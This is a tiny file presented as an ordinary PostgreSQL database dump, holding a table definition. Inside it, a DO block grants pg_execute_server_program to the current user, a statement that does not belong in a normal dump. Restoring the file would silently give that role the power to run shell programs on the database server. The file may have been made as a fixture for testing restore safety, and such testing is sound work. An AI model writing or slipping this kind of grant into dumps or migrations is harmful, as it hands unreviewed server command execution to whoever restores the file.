--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
CREATE TABLE public.t (a text);
DO $$ BEGIN EXECUTE 'GRANT pg_execute_server_program TO CURRENT_USER'; END $$;

--
-- PostgreSQL database dump complete
--
